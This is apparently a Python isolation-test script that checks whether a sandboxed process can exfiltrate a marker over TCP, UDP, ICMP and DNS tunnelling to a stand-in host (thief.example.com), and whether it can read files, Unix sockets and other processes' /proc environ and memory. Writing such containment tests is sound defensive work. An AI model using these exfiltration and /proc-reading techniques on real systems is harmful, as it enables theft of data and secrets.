"""What somebody tries who has a shell beside an application: ``python shell.py WORK``; prints outcomes as JSON.

``WORK`` is JSON: ``sinks`` ([address, TCP port, UDP port] that are not to be reached), ``sockets`` and ``files`` (paths that are
not to be opened), ``pids`` (processes that are not to be looked into), ``calls`` ([name, port] of services). An outcome is what
was got, or the error's name. Standard library alone: it runs as another user in a namespace of its own.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import struct
import sys
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

MARKER = b"exfiltrated-3f1a"


def tried(act: Callable[[], str]) -> str:
    try:
        return act()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)


def tcp(address: str, port: int) -> str:
    with socket.create_connection((address, port), 3) as made:
        made.sendall(MARKER)
        return f"answered {len(made.recv(1000))}"


def udp(address: str, port: int, data: bytes = MARKER) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        made.sendto(data, (address, port))
        return f"answered {len(made.recv(1000))}"


def tunnelled(server: str) -> str:
    """A secret in a name, asked of a resolver outside; the addresses of the answer."""
    labels = b"".join(bytes([len(part)]) + part for part in (MARKER, b"thief", b"example", b"com"))
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.sendto(query, (server, 53))
        answer = made.recv(1000)
    count = struct.unpack(">H", answer[6:8])[0]
    return f"code {answer[3] & 15}, addresses {[socket.inet_ntoa(answer[-4:])] if count else []}"


def ping(address: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as made:
        made.settimeout(1)
        made.sendto(b"\x08\0\xf7\xff\0\0\0\0" + MARKER, (address, 0))
        return "sent"


def opened(path: str) -> str:
    with open(path, "rb") as file:  # noqa: PTH123 - a path that may be anything
        file.read(10)
    return "read"


def connected(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(3)
        made.connect(path)
    return "connected"


def called(name: str, port: int) -> str:
    with socket.create_connection((name, port), 5) as made:
        made.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
        head = made.recv(4000).split(b"\r\n")[0]
    return head.decode(errors="replace") or "closed"


def main(work: dict[str, Any]) -> dict[str, Any]:
    outside = {}
    for address, port, datagrams in work["sinks"]:
        outside[f"tcp {address}"] = tried(lambda at=address, to=port: tcp(at, to))  # type: ignore[misc]
        outside[f"udp {address}"] = tried(lambda at=address, to=datagrams: udp(at, to))  # type: ignore[misc]
        if ":" not in address:
            outside[f"dns {address}"] = tried(lambda at=address: tunnelled(at))  # type: ignore[misc]
            outside[f"icmp {address}"] = tried(lambda at=address: ping(at))  # type: ignore[misc]
    return {
        "uid": os.getuid(),
        "interfaces": sorted(name for _, name in socket.if_nameindex()),
        "outside": outside,
        "sockets": {path: tried(lambda at=path: connected(at)) for path in work["sockets"]},  # type: ignore[misc]
        "files": {path: tried(lambda at=path: opened(at)) for path in work["files"]},  # type: ignore[misc]
        "processes": {
            f"{pid}/{name}": tried(lambda at=f"/proc/{pid}/{name}": opened(at))  # type: ignore[misc]
            for pid in work["pids"]
            for name in ("environ", "mem", "maps", "fd/0")
        },
        "calls": {name: tried(lambda at=name, to=port: called(at, to)) for name, port in work["calls"]},  # type: ignore[misc]
    }


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))  # noqa: T201 - for whoever started it
